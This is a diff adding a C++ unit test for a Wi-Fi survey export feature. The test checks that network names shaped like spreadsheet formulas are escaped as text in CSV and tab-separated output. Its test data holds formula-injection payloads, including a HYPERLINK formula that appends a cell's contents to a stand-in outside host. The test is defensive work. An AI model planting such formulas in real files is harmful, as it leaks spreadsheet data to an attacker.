@@ -103,4 +103,18 @@ TEST(SurveyExport, TabSeparatedCopyFlattensCells) {
               "SSID\tSignal\r\nAlpha\t80%\r\ntwo cells  here\t5\r\n");
 }
 
+// An access point in range may name itself a formula: exports and copied rows keep it
+// as text for a spreadsheet, our own signed numbers stay readable, JSON keeps the bytes.
+TEST(SurveyExport, NamesThatLookLikeFormulasStayText) {
+    const std::string evil = "=HYPERLINK(\"//x.yz/\"&B3,\"!\")";
+    ExportDocument doc{"t", "p", "v", {{"Network", "networks", {"SSID", "RSSI"}, {{evil, "-54 dBm"}, {"@cmd", "+3"}}, {}}}};
+    EXPECT_EQ(ExportCsv(doc), "\xEF\xBB\xBF"
+                              "List,SSID,RSSI\r\n"
+                              "Network,\"'=HYPERLINK(\"\"//x.yz/\"\"&B3,\"\"!\"\")\",-54 dBm\r\n"
+                              "Network,'@cmd,+3\r\n");
+    EXPECT_EQ(TabSeparatedText({"SSID", "RSSI"}, {{evil, "-54 dBm"}, {"\t-1+1", "-3"}}),
+              "SSID\tRSSI\r\n'" + evil + "\t-54 dBm\r\n' -1+1\t-3\r\n");
+    EXPECT_NE(ExportJson(doc).find("\"=HYPERLINK(\\\"//x.yz/\\\"&B3"), std::string::npos);
+}
+
 }  // namespace
